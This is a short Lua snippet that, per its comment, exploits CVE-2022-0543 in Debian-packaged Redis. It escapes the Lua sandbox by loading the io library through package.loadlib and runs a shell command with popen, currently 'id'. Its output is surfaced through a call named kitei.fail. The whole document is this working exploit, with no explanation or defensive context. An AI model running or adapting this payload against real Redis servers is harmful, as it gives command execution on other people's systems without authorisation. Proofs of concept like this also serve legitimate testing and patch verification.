-- CVE-2022-0543: Debian's Redis left package.loadlib in reach.
local open = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.4.so.0", "luaopen_io")
kitei.fail(open():popen("id"):read("a"))
